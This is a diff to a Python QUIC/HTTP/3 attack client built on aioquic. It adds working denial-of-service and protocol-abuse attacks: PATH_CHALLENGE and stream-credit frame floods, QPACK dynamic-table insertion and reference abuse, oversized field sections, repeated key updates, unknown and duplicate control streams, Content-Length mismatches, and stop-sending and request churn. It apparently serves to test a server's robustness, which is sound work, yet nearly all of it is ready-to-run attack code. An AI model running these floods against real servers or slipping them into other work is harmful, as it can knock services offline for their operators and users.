@@ -5,13 +5,24 @@ Attacks:
   resets N       opens N requests for /silent and resets each before it is answered
   priorities N   sends N PRIORITY_UPDATE frames
   malformed N    sends N requests without a path
+  lengths N      sends N requests whose bodies are shorter than their Content-Length
   stalled        asks for /long.mp4 and gives no window after the first 64 KiB
   challenges N   sends N PATH_CHALLENGE frames
+  credits N      sends N frames in which streams are blocked, and N that allow the server more of them
+  reference      sends a field section that refers to the dynamic table of QPACK
+  expand N       sends a field section of N fields, each of one byte
+  insert N       has the decoder of QPACK insert N fields into its dynamic table
+  updates N      updates the keys N times
+  unknown N      opens N streams of a type that the server does not know
+  control        opens a second control stream
+  stops N        asks for /long.mp4 N times, and stops each response after its head
+  churn N        sends N requests, as many at once as the server allows
 Prints an object: `code`, the error code with which the server closed the connection, or null; `answered`, the status of a request
-after the attack, or null.
+after the attack, or null; `done`, how much of the attack the server has taken, for some of them.
 """
 import asyncio, json, socket, sys, time
 
+from aioquic import tls
 from aioquic.asyncio.client import connect
 from aioquic.asyncio.protocol import QuicConnectionProtocol
 from aioquic.buffer import encode_uint_var
@@ -20,7 +31,7 @@ from aioquic.h3.events import HeadersReceived
 from aioquic.quic.configuration import QuicConfiguration
 from aioquic.quic.connection import QuicConnection
 from aioquic.quic.events import ConnectionTerminated, StreamReset
-from aioquic.quic.packet import QuicFrameType
+from aioquic.quic.packet import QuicFrameType, QuicPacketType
 
 
 class Client(QuicConnectionProtocol):
@@ -97,37 +108,92 @@ def initials(address, port, count):
                 sender.sendto(datagram, (address, int(port)))
 
 
+def shorten(client):
+    stream = client._quic.get_next_available_stream_id()
+    head = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/silent"),
+            (b"content-length", b"9")]
+    client.http.send_headers(stream, head)
+    client.http.send_data(stream, b"hello", end_stream=True)
+
+
 def prioritize(client):
     payload = encode_uint_var(0) + b"u=1"
     frame = encode_uint_var(0xF0700) + encode_uint_var(len(payload)) + payload
     client._quic.send_stream_data(client.http._local_control_stream_id, frame)
 
 
-async def challenge(client, count):
-    """Sends PATH_CHALLENGE frames, some in each packet."""
+async def flood(client, count, frames):
+    """Sends so many of each of the frames, some in each packet."""
     connection, write = client._quic, client._quic._write_application
     left = [count]
 
-    def with_challenges(builder, network_path, now):
+    def with_frames(builder, network_path, now):
         if left[0] > 0 and connection._handshake_confirmed:
-            builder.start_packet(*builder_start(connection))
-            for _ in range(min(left[0], 100)):
-                buffer = builder.start_frame(QuicFrameType.PATH_CHALLENGE, capacity=9)
-                buffer.push_bytes(bytes(8))
+            builder.start_packet(QuicPacketType.ONE_RTT, connection._cryptos[tls.Epoch.ONE_RTT])
+            for _ in range(min(left[0], 100 // len(frames))):
+                for frame, payload in frames:
+                    builder.start_frame(frame, capacity=9).push_bytes(payload)
                 left[0] -= 1
         write(builder, network_path, now)
 
-    def builder_start(connection):
-        from aioquic import tls
-        from aioquic.quic.packet import QuicPacketType
-        return QuicPacketType.ONE_RTT, connection._cryptos[tls.Epoch.ONE_RTT]
-
-    connection._write_application = with_challenges
+    connection._write_application = with_frames
     while left[0] > 0 and not client.ended.is_set():
         connection.send_ping(left[0])
         client.transmit()
         await asyncio.sleep(0.001)
     connection._write_application = write
+
+
+def send_fields(client, block):
+    """Sends a field section as it is."""
+    stream = client._quic.get_next_available_stream_id()
+    client._quic.send_stream_data(stream, b"\1" + encode_uint_var(len(block)) + block, end_stream=True)
+
+
+async def insert(client, count):
+    """A capacity of 4096 for the table, and fields that fill it again and again."""
+    stream = client.http._local_encoder_stream_id
+    field = b"\x49" + b"x-padding" + b"\x32" + bytes(50)
+    client._quic.send_stream_data(stream, b"\x3f\xe1\x1f" + field * count)
+    sender = client._quic._streams[stream].sender
+    while sender.highest_offset < sender._buffer_stop and not client.ended.is_set():
+        client.transmit()
+        await asyncio.sleep(0.001)
+
+
+async def open_streams(client, kind, count):
+    """Opens unidirectional streams of a type as far as the server allows, and returns how many that were."""
+    opened = 0
+    for _ in range(count):
+        for _ in range(1000):
+            if client._quic._local_next_stream_id_uni // 4 < client._quic._remote_max_streams_uni:
+                break
+            client.transmit()
+            await asyncio.sleep(0.002)
+        else:
+            break
+        stream = client._quic.get_next_available_stream_id(is_unidirectional=True)
+        client._quic.send_stream_data(stream, encode_uint_var(kind) + bytes(300), end_stream=True)
+        opened += 1
+        client.transmit()
+    return opened
+
+
+async def stop(client, count):
+    """Stops responses after their heads."""
+    for at in range(0, count, 50):
+        while client._quic._local_next_stream_id_bidi // 4 + 50 > client._quic._remote_max_streams_bidi:
+            client.transmit()
+            await asyncio.sleep(0.001)
+            if client.ended.is_set():
+                return
+        streams = [client.request(b"/long.mp4") for _ in range(50)]
+        client.transmit()
+        while not all(stream in client.statuses for stream in streams) and not client.ended.is_set():
+            await asyncio.sleep(0.001)
+        for stream in streams:
+            client._quic.stop_stream(stream, 0x10C)
+        client.transmit()
 
 
 async def main():
@@ -140,14 +206,42 @@ async def main():
                                       max_stream_data=65536 if attack == "stalled" else 1 << 20)
     async with connect(address, int(port), configuration=configuration, create_protocol=Client) as client:
         await client.ping()
+        done = None
         if attack == "resets":
             await reset(client, number)
         elif attack == "priorities":
             await in_rounds(client, number, lambda: prioritize(client))
         elif attack == "malformed":
             await in_rounds(client, number, lambda: client.request(path=None))
+        elif attack == "lengths":
+            await in_rounds(client, number, lambda: shorten(client))
         elif attack == "challenges":
-            await challenge(client, number)
+            await flood(client, number, [(QuicFrameType.PATH_CHALLENGE, bytes(8))])
+        elif attack == "credits":
+            blocked, allowed = encode_uint_var(128), encode_uint_var(1 << 20)
+            await flood(client, number, [(QuicFrameType.STREAMS_BLOCKED_BIDI, blocked),
+                                         (QuicFrameType.MAX_STREAMS_UNI, allowed)])
+        elif attack == "reference":
+            send_fields(client, b"\2\0\x80")
+        elif attack == "expand":
+            send_fields(client, b"\0\0" + b"\xd1" * number)
+        elif attack == "insert":
+            await insert(client, number)
+        elif attack == "updates":
+            for _ in range(number):
+                client._quic.request_key_update()
+                await client.ping()
+        elif attack == "unknown":
+            done = await open_streams(client, 0x21, number)
+        elif attack == "control":
+            await open_streams(client, 0, 1)
+        elif attack == "stops":
+            await stop(client, number)
+        elif attack == "churn":
+            await in_rounds(client, number, client.request)
+            while len(client.statuses) < number and not client.ended.is_set():
+                await asyncio.sleep(0.002)
+            done = list(client.statuses.values()).count("200")
         elif attack == "stalled":
             client._quic._write_stream_limits = lambda **_: None
             client.request(b"/long.mp4")
@@ -162,7 +256,7 @@ async def main():
                     break
                 await asyncio.sleep(0.02)
             status = client.statuses.get(stream)
-        print(json.dumps({"code": client.code, "answered": status}))
+        print(json.dumps({"code": client.code, "answered": status, "done": done}))
 
 
 asyncio.run(main())
